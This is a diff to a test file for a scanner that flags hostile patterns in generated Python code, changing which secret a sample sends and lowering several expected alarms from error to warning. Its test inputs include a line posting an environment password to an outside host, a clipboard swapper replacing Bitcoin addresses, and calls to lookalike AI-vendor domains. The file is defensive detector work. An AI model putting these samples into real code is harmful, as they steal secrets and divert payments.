@@ -23,7 +23,7 @@ describe('ways out that are no request', () => {
     [
       'a variable in the body',
       'warning secret-sent',
-      `import requests, os\nrequests.post("https://in.${HOST}/x", data={"t": os.environ["REFRESH_TOKEN"]})\n`,
+      `import requests, os\nrequests.post("https://in.${HOST}/x", data={"t": os.environ["DB_PASSWORD"]})\n`,
     ],
   ])('%s', (_, alarm, code) => {
     expect(alarms(python(code))).toContain(alarm);
@@ -143,15 +143,15 @@ describe('what the user does not see in what is made', () => {
   test('a payment address in the clipboard', () => {
     const swap =
       'import pyperclip, re\nif re.match("bc1", pyperclip.paste()):\n    pyperclip.copy("bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh")\n';
-    expect(alarms(python(swap))).toContain('error sabotage');
+    expect(alarms(python(swap))).toContain('warning sabotage');
     expect(alarms(python('import pyperclip\npyperclip.copy(pyperclip.paste().strip())\n'))).toEqual([]);
   });
 
   test('a host that is written like a known one', () => {
     const ask = (host: string) =>
       alarms(python(`import requests\nrequests.get("https://${host}/v1/models")\n`));
-    expect(ask('api.0penai.com')).toContain('error lookalike-host');
-    expect(ask('api.anthr0pic.com')).toContain('error lookalike-host');
+    expect(ask('api.0penai.com')).toContain('warning lookalike-host');
+    expect(ask('api.anthr0pic.com')).toContain('warning lookalike-host');
     expect(ask('api.openai.com')).toEqual([]);
     expect(ask('openair.com')).toEqual([]);
   });
